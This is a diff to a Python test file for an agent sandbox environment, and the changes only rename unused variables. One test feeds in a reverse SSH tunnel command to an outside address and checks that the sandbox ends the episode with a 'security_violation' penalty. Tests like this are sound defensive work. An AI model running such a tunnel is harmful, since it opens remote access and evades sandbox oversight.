@@ -53,7 +53,7 @@ def test_registered_and_solves(rt):
 def test_violation_terminates_with_penalty(rt):
     env = SandboxEnv([TASK], runtime=rt)
     env.reset(seed=0)
-    obs, r, term, trunc, info = env.step(act("shell", command="ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7"))
+    _obs, r, term, trunc, info = env.step(act("shell", command="ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7"))
     assert term and not trunc and r == -1.0
     assert info["termination_reason"] == "security_violation"
     assert info["violations"][0]["rule"] == "ssh-tunnel" and info["violations"][0]["step"] == 1
@@ -65,6 +65,6 @@ def test_turn_limit_truncates(rt):
     env.reset(seed=0)
     for _ in range(3):
         env.step(act("shell", command="true"))
-    obs, r, term, trunc, info = env.step(act("shell", command="true"))
+    _obs, _r, term, trunc, info = env.step(act("shell", command="true"))
     assert trunc and not term and info["termination_reason"] == "max_steps"
     env.close()
